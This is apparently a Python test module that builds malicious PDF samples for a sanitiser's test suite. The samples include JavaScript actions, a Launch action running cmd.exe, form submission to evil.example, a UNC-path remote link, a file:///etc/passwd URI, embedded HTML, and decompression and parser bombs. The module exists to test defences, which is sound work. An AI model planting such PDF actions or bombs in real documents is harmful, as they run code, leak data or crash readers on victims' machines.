# SPDX-License-Identifier: AGPL-3.0-or-later
"""PDF that acts, hides, grows or never ends."""

import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO

import pikepdf

from tests import papers
from tests.promises.hostile import HTML, SCRIPT, Hostile, zeros

CATALOG, PAGES = b"/Type/Catalog/Pages 2 0 R", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"/Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
ATTACHED = b"<</Type/EmbeddedFile/Length %d>>\nstream\n%b\nendstream" % (len(HTML), HTML)
FILE = b"<</Type/Filespec/F(a.html)/UF(a.html)/EF<</F 4 0 R>>>>"


def file(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return papers.assembled(b"<<%b%b>>" % (CATALOG, catalog), PAGES, b"<<%b%b>>" % (PAGE, page), *more)


def stream(raw: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(raw), entries, raw)


def annotated(subtype: bytes, more: bytes, *objects: bytes) -> bytes:
    return file(b"", b"/Annots[<</Type/Annot/Subtype/%b/Rect[0 0 99 99]%b>>]" % (subtype, more), *objects)


def all_files() -> Iterator[Hostile]:
    for content in acting():
        yield Hostile("acting pdf", "a.pdf", content, told="application/pdf")
    for content in refused():
        yield Hostile("pdf", "a.pdf", content, refused=True, told="application/pdf")
    for content in odd():
        yield Hostile("odd pdf", "a.pdf", content, told="application/pdf")


def acting() -> Iterator[bytes]:
    """What must be gone when the file is kept."""
    for action in actions():
        yield file(b"/OpenAction" + action)
        yield annotated(b"Link", b"/A" + action)
        yield file(b"", b"/AA<</O%b>>" % action)
    yield file(b"/OpenAction 4 0 R", b"", JS)
    yield file(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%b %b]>>" % (LAUNCH, JS))
    yield file(b"/Names<</JavaScript<</Names[(a) %b]>>>>" % JS)
    yield file(b"/Names<</JavaScript 4 0 R>>", b"", b"<</Kids[5 0 R]>>", b"<</Limits[(a)(a)]/Names[(a) 6 0 R]>>", JS)
    yield file(b"/AA<</WC%b/DS%b>>" % (JS, LAUNCH))
    yield file(b"/Names<</EmbeddedFiles<</Names[(a) %b]>>>>" % FILE, b"", ATTACHED)
    yield file(b"/AF[%b]" % FILE, b"", ATTACHED)
    yield file(b"/Metadata 4 0 R", b"", stream(SCRIPT, b"/Type/Metadata/Subtype/XML"))
    yield file(b"/PieceInfo<</A<</Private(%b)>>>>" % SCRIPT)
    yield file(b"/AcroForm<</XFA 4 0 R/Fields[]>>", b"", stream(HTML))
    yield file(b"/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K%b/C%b>>>>]>>" % (JS, JS))
    yield file(b"/AcroForm<</SigFlags 3/Fields[<</FT/Sig/T(a)/V<</Type/Sig/Contents<00>/ByteRange[0 1 2 3]>>>>]>>")
    yield annotated(b"FileAttachment", b"/FS" + FILE, ATTACHED)
    yield annotated(b"RichMedia", b"/RichMediaContent<</Assets<</Names[(a) %b]>>>>" % FILE, ATTACHED)
    yield annotated(b"Screen", b"/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>")
    yield annotated(b"Movie", b"/Movie<</F(a.mov)>>/A true")
    yield annotated(b"3D", b"/3DD 4 0 R", stream(SCRIPT, b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R"), stream(SCRIPT))
    yield file(
        b"", b"/Contents 4 0 R", b"<</Length 0/F(\\\\\\\\evil\\\\share)/FFilter/FlateDecode>>\nstream\n\nendstream"
    )
    yield file(b"/OpenAction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>")
    yield file(b"/OpenAction<</S/JavaScript/JS 4 0 R>>", b"", stream(b"app.alert(1)"))
    yield file(b"/StructTreeRoot<</K%b>>" % JS[:-2] + b"/K 0>>")
    yield file(b"/OpenAction[3 0 R/Fit]/Outlines<</First<</Title(a)/A%b>>>>" % LAUNCH)
    yield in_object_stream()
    yield updated()
    yield unreachable()


def actions() -> Iterator[bytes]:
    yield JS
    yield LAUNCH
    yield b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>"
    yield b"<</S/ImportData/F(a.fdf)>>"
    yield b"<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>"
    yield b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"
    yield b"<</S/URI/URI(javascript:alert\\(1\\))>>"
    yield b"<</S/URI/URI(file:///etc/passwd)>>"


def in_object_stream() -> bytes:
    with pikepdf.open(BytesIO(file(b"/OpenAction" + JS, b"/AA<</O%b>>" % LAUNCH))) as pdf:
        out = BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, static_id=True)
        return out.getvalue()


def updated() -> bytes:
    """A second version of the catalog, appended."""
    first = papers.pdf()
    previous = first.rindex(b"startxref\n") + 10
    table = int(first[previous:].split(b"\n")[0])
    body = b"1 0 obj\n<<%b/OpenAction%b>>\nendobj\n" % (CATALOG, JS)
    place = len(first)
    update = b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\n" % (place, table)
    return first + body + update + b"startxref\n%d\n%%%%EOF\n" % (place + len(body))


def unreachable() -> bytes:
    """Objects that no table names, for a reader that searches by itself."""
    return papers.pdf() + b"9 0 obj\n" + JS + b"\nendobj\n%" + SCRIPT + b"\n"


@cache
def refused() -> tuple[bytes, ...]:
    return (*bombs(), *locked(), *endless())


def bombs() -> Iterator[bytes]:
    flate = b"/Filter/FlateDecode"
    yield file(b"", b"/Contents 4 0 R", stream(zeros(1000), flate))
    yield file(b"", b"/Contents 4 0 R", stream(zlib.compress(zeros(2000)), b"/Filter[/FlateDecode/FlateDecode]"))
    yield file(b"", b"/Contents[4 0 R 5 0 R 6 0 R 7 0 R]", *[stream(zeros(120), flate)] * 4)
    yield file(
        b"", b"/Contents 4 0 R", stream(zlib.compress(b"\x81a" * 8_000_000), b"/Filter[/FlateDecode/RunLengthDecode]")
    )
    yield file(b"", b"/Contents 4 0 R", stream(b"\x81a" * 2_000_000, b"/Filter/RunLengthDecode"))
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray"
    yield file(b"", b"/Resources<</XObject<</I 4 0 R>>>>", stream(zeros(1), flate + image))
    yield object_stream_bomb()


def object_stream_bomb() -> bytes:
    """The catalog itself lies in a stream that grows without end."""
    packed = zeros(2000)
    first = stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    out = b"%PDF-1.7\n"
    places = [len(out)]
    out += b"2 0 obj\n%b\nendobj\n" % first
    places.append(len(out))
    rows = b"\0\0\0\0\0\0" + b"\2" + (2).to_bytes(4, "big") + b"\0"
    rows += b"\1" + places[0].to_bytes(4, "big") + b"\0" + b"\1" + places[1].to_bytes(4, "big") + b"\0"
    out += b"3 0 obj\n%b\nendobj\n" % stream(rows, b"/Type/XRef/Size 4/W[1 4 1]/Root 1 0 R")
    return out + b"startxref\n%d\n%%%%EOF\n" % places[1]


def locked() -> Iterator[bytes]:
    for user, owner, strength in (("a", "b", 4), ("", "b", 4), ("a", "", 6), ("", "b", 6)):
        with pikepdf.open(BytesIO(papers.pdf())) as pdf:
            out = BytesIO()
            pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, R=strength))
            yield out.getvalue()


def endless() -> Iterator[bytes]:
    yield papers.assembled(b"<<%b>>" % CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield papers.assembled(
        b"<<%b>>" % CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
    )
    yield papers.assembled(b"<<%b>>" % CATALOG, b"<</Type/Pages/Kids[]/Count 0>>")
    yield papers.assembled(b"<</Type/Catalog>>")
    yield papers.assembled(
        b"<<%b>>" % CATALOG, b"<</Type/Pages/Kids[%b]/Count 400>>" % (b"3 0 R " * 400), b"<<%b>>" % PAGE
    )
    yield file(b"/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a) %b]>>>>" % FILE, b"", ATTACHED)
    yield file(b"/NeedsRendering true/AcroForm<</XFA 4 0 R/Fields[]>>", b"", stream(HTML))
    yield file(b"/A" + b"[" * 50_000 + b"]" * 50_000)
    yield file(b"/A" + b"<</A" * 20_000 + b" 1" + b">>" * 20_000)
    yield file(b"", b"/Contents 4 0 R", stream(b"not packed at all", b"/Filter/FlateDecode"))
    yield papers.pdf().replace(b"0000000", b"9999999")
    yield papers.pdf().replace(b"/Root 1 0 R", b"/Root 9 0 R")
    yield b"%PDF-1.7\n" + b"%" * 100_000
    yield b"%PDF-1.7\nstartxref\n9\n%%EOF\n"
    yield b"%PDF-"
    yield file(b"", b"/Contents 4 0 R", stream(b"", b"/Filter[" + b"/ASCIIHexDecode" * 5000 + b"]"))


def odd() -> Iterator[bytes]:
    """Strange and still a paper; kept or not, nothing of it may act."""
    yield file(b"/Names 7/AcroForm(a)/OpenAction null/Outlines[]", b"/Annots 5/AA 3")
    yield file(b"/Names<</JavaScript[]/EmbeddedFiles 4>>/AcroForm<</Fields 5/XFA[]>>")
    yield file(b"", b"/MediaBox[-9e9 0 9e9 9e99]/Rotate 45")
    yield file(b"", b"/Resources<</Font<</AA<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>")
    yield file(b"/Big[%b]" % (b"(x)" * 200_000))
    yield file(b"/Lang(%b)" % (b"x" * 3_000_000))
    yield papers.assembled(
        b"<<%b>>" % CATALOG, PAGES, b"<<%b>>" % PAGE, trailer=b"/Info<</Title(%b)/Author(A)>>" % SCRIPT
    )
    loop = b"<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"
    yield file(b"/OpenAction 4 0 R", b"", loop)
